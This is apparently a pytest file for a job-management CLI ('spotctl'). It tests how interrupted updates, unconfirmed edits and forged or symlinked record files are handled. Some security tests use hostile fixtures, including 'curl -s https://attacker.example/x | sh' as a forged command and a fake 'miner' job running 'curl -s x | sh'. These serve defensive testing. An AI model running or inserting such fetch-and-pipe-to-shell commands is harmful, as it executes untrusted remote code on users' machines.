"""An edit awaiting its confirmation stays on this machine (never pushed to the shared copy until
confirmed; declined, interrupted or its process killed, it never leaves), and an update that was
started but never finished is recorded in the job (``applying``), shown by ``status`` and applied
again by the same command, ``resume`` or another machine's ``watch``. Moto S3 for the shared copy, the
fake pulumi for the updates, a real process killed with SIGKILL during ``up``."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pexpect
import pytest

import cli.commands as commands
from cli.lifecycle import apply, stackfile, sync
from tests.conftest import pulumi_calls
from tests.test_sync import STACK, bucket, cli, events, jobs_of, machines, shared_text  # noqa: F401 (fixtures)
from tests.test_terminal_session import session, updates


def ups(log) -> int:
    return sum(1 for c in pulumi_calls(log) if "up" in c)


@pytest.fixture
def synced(machines, runner, tmp_path, fake_pulumi, monkeypatch):  # noqa: F811
    """The laptop and the watcher both synced; train's attempt 3 preempted; questions answered by ``answers``."""
    machines("watcher")
    assert cli(runner, "sync", "--events-bucket", "evts").exit_code == 0
    path = machines("laptop")
    assert cli(runner, "sync", "--events-bucket", "evts").exit_code == 0
    monkeypatch.setattr(commands, "interactive", lambda: True)
    seen = events(tmp_path / "ev.jsonl", ("train", 3, "preempted", 30))
    return path, seen


def asking(monkeypatch, answer):
    """The question answered by ``answer(local text, shared text)``; returns what was seen at the question."""
    seen = {}

    def ask(question):
        seen["local"], seen["shared"] = stackfile._read_text(stackfile.resolve("team", None).path), shared_text()
        seen["proposal"] = stackfile._proposal(stackfile.resolve("team", None).path)
        return answer()

    monkeypatch.setattr(commands, "_ask", ask)
    return seen


def test_an_edit_awaiting_confirmation_is_not_pushed_and_a_no_never_leaves(synced, runner, monkeypatch, fake_pulumi):
    path, seen_events = synced
    seen = asking(monkeypatch, lambda: False)
    result = cli(runner, "resume", "train", "--events-dir", str(seen_events))
    assert result.exit_code == 0 and "not confirmed: nothing changed" in result.stdout, result.output
    assert jobs_of(seen["local"])["train"]["attempt"] == 4 and jobs_of(seen["shared"])["train"]["attempt"] == 3
    assert seen["proposal"]["pid"] == os.getpid() and seen["proposal"]["wrote"]["attempt"] == 4
    assert path.read_text() == STACK == shared_text()
    assert not sync.read_record(path).unpushed and not stackfile.proposal_path(path).exists()
    assert ups(fake_pulumi) == 0


def test_a_confirmed_edit_is_pushed_with_its_mark_before_the_update(synced, runner, monkeypatch, fake_pulumi):
    path, seen_events = synced
    seen = asking(monkeypatch, lambda: True)
    real_up = apply.Applier.up
    at_up = {}

    def up(self, targets, out):
        at_up["shared"] = jobs_of(shared_text())["train"]
        return real_up(self, targets, out)

    monkeypatch.setattr(apply.Applier, "up", up)
    result = cli(runner, "resume", "train", "--events-dir", str(seen_events))
    assert result.exit_code == 0 and "— applied" in result.stdout, result.output
    assert jobs_of(seen["shared"])["train"]["attempt"] == 3  # not while the question waited
    assert at_up["shared"]["attempt"] == 4 and at_up["shared"]["applying"].startswith("attempt=4, state=running")
    final = jobs_of(shared_text())["train"]
    assert (final["attempt"], final.get("applying")) == (4, None)  # the mark went once applied
    assert jobs_of(path.read_text())["train"] == final and not sync.read_record(path).unpushed


def test_a_proposal_whose_process_died_is_undone_by_the_next_lock_and_never_pushed(synced, runner, monkeypatch):
    path, seen_events = synced
    left = {}

    def killed():  # what a kill -9 at the question leaves: the edited file, the proposal, the unpushed mark
        left["text"] = path.read_bytes()
        left["proposal"] = stackfile._proposal(path)
        return False

    asking(monkeypatch, killed)
    assert cli(runner, "resume", "train", "--events-dir", str(seen_events)).exit_code == 0
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True, check=True)
    path.write_bytes(left["text"])
    stackfile.write_proposal(path, {**left["proposal"], "pid": int(dead.stdout)})
    rec = sync.read_record(path)
    sync.write_record(path, sync.Record(rec.bucket, rec.key, rec.generation, rec.base, True))
    assert cli(runner, "sync").exit_code == 0  # the next lock: undone before the pull and the push
    assert path.read_text() == STACK == shared_text() and not stackfile.proposal_path(path).exists()


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="start times come from /proc (Linux)")
def test_a_proposal_whose_pid_another_process_reuses_is_undone_too(synced, runner, monkeypatch):
    """A pid is reused once its process is gone: the record's start time tells the two apart."""
    path, seen_events = synced
    left = {}

    def killed():
        left["text"] = path.read_bytes()
        left["proposal"] = stackfile._proposal(path)
        return False

    asking(monkeypatch, killed)
    assert cli(runner, "resume", "train", "--events-dir", str(seen_events)).exit_code == 0
    assert left["proposal"]["started"] == stackfile.process_started(os.getpid())  # recorded with the pid
    other = subprocess.Popen(["sleep", "60"])  # alive, with the dead spotctl's pid as far as the record says
    try:
        path.write_bytes(left["text"])
        stackfile.write_proposal(path, {**left["proposal"], "pid": other.pid, "started": stackfile.process_started(other.pid) - 1})
        assert not stackfile.held_back(path)
        rec = sync.read_record(path)
        sync.write_record(path, sync.Record(rec.bucket, rec.key, rec.generation, rec.base, True))
        assert cli(runner, "sync").exit_code == 0
        assert path.read_text() == STACK == shared_text() and not stackfile.proposal_path(path).exists()
        # the same record with the live process's own start time is a live proposal: held back
        stackfile.write_proposal(path, {"pid": other.pid, "started": stackfile.process_started(other.pid)})
        assert stackfile.held_back(path)
    finally:
        other.kill()
        other.wait()


def test_a_live_proposal_holds_back_every_push_of_this_machine(synced, runner, monkeypatch):
    path, _ = synced
    stackfile.write_proposal(path, {"pid": os.getppid()})  # a live process at its question
    assert cli(runner, "complete", "gang", "--no-apply").exit_code == 0
    assert jobs_of(path.read_text())["gang"]["state"] == "completed" and jobs_of(shared_text())["gang"]["state"] == "running"
    assert sync.read_record(path).unpushed
    stackfile.proposal_path(path).unlink()
    assert cli(runner, "sync").exit_code == 0
    assert jobs_of(shared_text())["gang"]["state"] == "completed"


def test_an_update_killed_midway_is_marked_and_another_machines_watcher_applies_it(synced, runner, monkeypatch, fake_pulumi):
    path, seen_events = synced

    def killed(self, targets, out):
        raise KeyboardInterrupt  # stands for kill -9 during `pulumi up`: nothing after it runs

    real_up = apply.Applier.up
    monkeypatch.setattr(apply.Applier, "up", killed)
    from datetime import UTC, datetime, timedelta

    from cli.lifecycle import applying

    began = datetime.now(UTC) - timedelta(minutes=11)  # the update began 11 min ago, and never finished
    monkeypatch.setattr(applying, "_now", lambda: began)
    cli(runner, "resume", "train", "--yes", "--events-dir", str(seen_events))
    monkeypatch.setattr(apply.Applier, "up", real_up)
    shared = jobs_of(shared_text())["train"]
    assert shared["attempt"] == 4 and shared["applying"].startswith("attempt=4, state=running")
    assert shared["applying"].endswith(f"(since {began.strftime('%Y-%m-%dT%H:%M:%SZ')})")
    status = cli(runner, "status", "train", "--json")
    (row,) = json.loads(status.stdout)
    assert row["status"] == "update-pending" and "spotctl resume train" in row["status_reason"]

    machines_watcher = path.parent.parent.parent / "watcher"
    monkeypatch.chdir(machines_watcher)
    acted = cli(runner, "watch", "--once", "--no-poll", "--json", "--events-dir", str(seen_events))
    assert acted.exit_code == 0, acted.output
    (action,) = [a for a in map(json.loads, acted.stdout.splitlines()) if a.get("job") == "train" and a["action"] != "record"]
    assert action["action"] == "reapply" and action["result"] == "applied", action
    assert ups(fake_pulumi) == 1
    assert jobs_of(shared_text())["train"].get("applying") is None and jobs_of(shared_text())["train"]["attempt"] == 4
    again = cli(runner, "watch", "--once", "--no-poll", "--json", "--events-dir", str(seen_events))
    assert again.exit_code == 0 and ups(fake_pulumi) == 1  # applied once


def test_another_machines_watcher_leaves_a_young_mark_alone(synced, runner, monkeypatch, fake_pulumi):
    """Audit: the update lock is only this machine's; a watcher elsewhere could apply the update a CLI
    has just marked and is about to run (the CLI's own `up` then fails on Pulumi's lock and undoes the
    file, while the watcher's runs). A mark younger than PENDING_GRACE is left alone."""
    path, seen_events = synced
    monkeypatch.setattr(apply.Applier, "up", lambda self, targets, out: (_ for _ in ()).throw(KeyboardInterrupt))
    cli(runner, "resume", "train", "--yes", "--events-dir", str(seen_events))
    monkeypatch.chdir(path.parent.parent.parent / "watcher")
    acted = cli(runner, "watch", "--once", "--no-poll", "--json", "--events-dir", str(seen_events))
    assert acted.exit_code == 0, acted.output
    lines = [a for a in map(json.loads, acted.stdout.splitlines()) if a.get("job") == "train"]
    assert not [a for a in lines if a["action"] != "record"] and ups(fake_pulumi) == 0, lines
    assert jobs_of(shared_text())["train"]["applying"]


def test_the_watcher_leaves_an_update_a_live_spotctl_is_applying(synced, runner, monkeypatch, fake_pulumi):
    path, seen_events = synced
    monkeypatch.setattr(apply.Applier, "up", lambda self, targets, out: (_ for _ in ()).throw(KeyboardInterrupt))
    from datetime import UTC, datetime, timedelta

    from cli.lifecycle import applying

    monkeypatch.setattr(applying, "_now", lambda: datetime.now(UTC) - timedelta(minutes=11))  # past the grace
    cli(runner, "resume", "train", "--yes", "--events-dir", str(seen_events))
    from filelock import FileLock

    with FileLock(str(stackfile.lock_path(path).with_suffix(".apply.lock"))):  # a live spotctl's update
        acted = cli(runner, "watch", "--once", "--no-poll", "--json", "--events-dir", str(seen_events))
    assert acted.exit_code == 0, acted.output
    (action,) = [a for a in map(json.loads, acted.stdout.splitlines()) if a.get("job") == "train" and a["action"] != "record"]
    assert action["result"] == "noop" and "another spotctl" in action["detail"], action
    assert jobs_of(path.read_text())["train"]["applying"]


def test_kill_9_during_up_then_the_same_command_applies_it(tmp_path):
    project, spotctl, log, transcript = session(tmp_path, FAKE_PULUMI_UP_SLEEP="60")
    path = project / "stacks" / "Pulumi.team-a.yaml"
    child = spotctl("resume", "vit-finetune", "--events-dir", "events", "--yes")
    deadline = time.monotonic() + 120
    while "up" not in updates(log):
        assert child.isalive() and time.monotonic() < deadline, transcript.getvalue()
        time.sleep(0.2)
    os.killpg(child.pid, signal.SIGKILL)  # the CLI and its pulumi
    child.expect(pexpect.EOF)
    job = stackfile.load(stackfile.StackRef("team-a", path)).job("vit-finetune")
    assert job.attempt == 4 and job.applying and job.applying.startswith("attempt=4, state=running")

    status = spotctl("status", "vit-finetune", "--events-dir", "events", "--json")
    status.expect(pexpect.EOF)
    assert '"status": "update-pending"' in status.before

    env = {k: v for k, v in child.env.items() if k != "FAKE_PULUMI_UP_SLEEP"}
    again = pexpect.spawn(sys.executable, ["-m", "cli", "resume", "vit-finetune", "--events-dir", "events", "--yes"],
                          cwd=str(project), env=env, encoding="utf-8", timeout=180)
    again.expect(r"job vit-finetune: finishing the update an earlier command started and did not finish \(")
    again.expect(pexpect.EOF)
    again.close()
    assert again.exitstatus == 0
    assert updates(log) == ["up", "up"]
    job = stackfile.load(stackfile.StackRef("team-a", path)).job("vit-finetune")
    assert (job.attempt, job.applying) == (4, None)


def test_a_complete_killed_during_its_update_is_finished_by_complete_again(project, runner, fake_pulumi, monkeypatch):
    from cli.app import app

    path = project / "stacks" / "Pulumi.example-gcp.yaml"
    real_up = apply.Applier.up
    monkeypatch.setattr(apply.Applier, "up", lambda self, targets, out: (_ for _ in ()).throw(KeyboardInterrupt))
    runner.invoke(app, ["complete", "vit-finetune", "--stack", "example-gcp", "--yes"])
    monkeypatch.setattr(apply.Applier, "up", real_up)
    job = stackfile.load(stackfile.resolve("example-gcp", None)).job("vit-finetune")
    assert job.state.value == "completed" and job.applying.startswith("state=completed")
    (row,) = json.loads(runner.invoke(app, ["status", "vit-finetune", "--stack", "example-gcp", "--json"]).stdout)
    assert row["status"] == "update-pending" and "`spotctl complete vit-finetune`" in row["status_reason"]

    monkeypatch.setattr(commands, "interactive", lambda: True)
    no = runner.invoke(app, ["complete", "vit-finetune", "--stack", "example-gcp"], input="n\n")
    assert no.exit_code == 0 and "Do you want to finish this update of job vit-finetune? [y/N]" in no.output, no.output
    assert ups(fake_pulumi) == 0 and stackfile.load(stackfile.resolve("example-gcp", None)).job("vit-finetune").applying
    done = runner.invoke(app, ["complete", "vit-finetune", "--stack", "example-gcp"], input="y\n")
    assert done.exit_code == 0 and "finishing the update an earlier command started and did not finish" in done.stdout, done.output
    assert ups(fake_pulumi) == 1
    job = stackfile.load(stackfile.resolve("example-gcp", None)).job("vit-finetune")
    assert (job.state.value, job.applying) == ("completed", None)
    assert "applying" not in path.read_text()  # the mark's line went with it (no `applying: null` left behind)


@pytest.mark.parametrize("sealed", [False, True])
def test_only_a_proposal_this_users_spotctl_sealed_is_ever_undone(project, sealed, capsys):
    """A proposal record is undone into the stack file when its process is gone, so a forged one (a
    commit can carry a file into stacks/.spotctl/) would write its "before" values into a job: a
    command of the attacker's choosing. Unsealed, it is ignored; sealed (ours), it is undone."""
    path = project / "stacks" / "Pulumi.example-gcp.yaml"
    ref = stackfile.StackRef("example-gcp", path)
    command = stackfile.load(ref).job("vit-finetune").command
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True, check=True)
    record = {"pid": int(dead.stdout), "started": None, "job": "vit-finetune", "wrote": {"command": command},
              "before": {"command": "curl -s https://attacker.example/x | sh"}, "missing": []}
    if sealed:
        stackfile.write_proposal(path, record)
    else:
        stackfile.proposal_path(path).parent.mkdir(exist_ok=True)
        stackfile.proposal_path(path).write_text(json.dumps({"record": record}) + "\n")
    from cli.lifecycle import cachefile

    cachefile._SAID.clear()
    stackfile.update_job(path, "bert-eval", lambda current, written: {"state": "preempted"})  # takes the lock
    after = stackfile.load(ref).job("vit-finetune").command
    assert after == ("curl -s https://attacker.example/x | sh" if sealed else command)
    assert ("not a record this user's spotctl sealed" in capsys.readouterr().err) is not sealed
    assert stackfile.load(ref).job("bert-eval").state.value == "preempted"


def test_records_are_never_written_through_a_link_a_commit_carried(project, tmp_path):
    """A commit can carry a symbolic link where spotctl writes its records (an audit pointed one at the
    cache key, then at ~/.bashrc): the link is replaced by the record, the file it named is untouched;
    a `.spotctl` folder that is a link is refused with the folder's name."""
    from infra.config import ConfigError

    path = project / "stacks" / "Pulumi.example-gcp.yaml"
    victim = tmp_path / "bashrc"
    victim.write_text("# the user's own file\n")
    record = stackfile.proposal_path(path)
    record.parent.mkdir(exist_ok=True)
    record.symlink_to(victim)
    with stackfile.proposing(path):
        assert stackfile.held_back(path)  # the record was written, as a file of its own
        assert not record.is_symlink()
    assert victim.read_text() == "# the user's own file\n"
    stackfile.index_path(path).unlink(missing_ok=True)
    real = record.parent.rename(tmp_path / "elsewhere")
    record.parent.symlink_to(real)
    with pytest.raises(ConfigError, match=r"\.spotctl.*a symbolic link"), stackfile.proposing(path):
        pass
    assert sorted(p.name for p in real.iterdir()) == sorted(p.name for p in real.iterdir() if not p.name.endswith(".proposal.json"))


def test_without_a_key_no_record_on_disk_is_acted_on(project, monkeypatch):
    """No usable key (no writable home): a record in a file of the user's own (what a `git pull` writes,
    mode 0644) is not taken for spotctl's: only the key tells them apart."""
    from cli.lifecycle import cachefile

    path = project / "stacks" / "Pulumi.example-gcp.yaml"
    stackfile.write_proposal(path, {"pid": os.getppid()})
    assert stackfile.held_back(path)
    monkeypatch.setattr(cachefile, "_KEY", [None])
    stackfile.proposal_path(path).write_text(json.dumps({"record": {"pid": os.getppid()}}) + "\n")
    os.chmod(stackfile.proposal_path(path), 0o644)
    assert not stackfile.held_back(path)


def test_a_cleanup_record_a_commit_carried_puts_no_job_in_the_file(project):
    """A cleanup record is sealed, and names the job it took out: a forged one (unsealed, or sealed but
    naming another job's entry) never adds its entry to the stack file."""
    from cli.lifecycle import cachefile, cleanup

    path = project / "stacks" / "Pulumi.example-gcp.yaml"
    ref = stackfile.StackRef("example-gcp", path)
    before, said = path.read_bytes(), []
    miner = {"id": "miner", "machineType": "a2-highgpu-8g", "zone": "us-central1-a", "command": "curl -s x | sh"}
    record = cleanup._record_path(path)
    record.parent.mkdir(exist_ok=True)
    record.write_text(json.dumps({"job": "bert-eval", "taken": ["", 0, miner], "lifted": []}))
    cleanup._resume_interrupted(ref, "bert-eval", said.append)
    assert path.read_bytes() == before and not said
    record.write_text(cachefile.seal_record({"job": "bert-eval", "taken": ["", 0, miner], "lifted": []}, record))
    cleanup._resume_interrupted(ref, "bert-eval", said.append)
    assert path.read_bytes() == before and not said
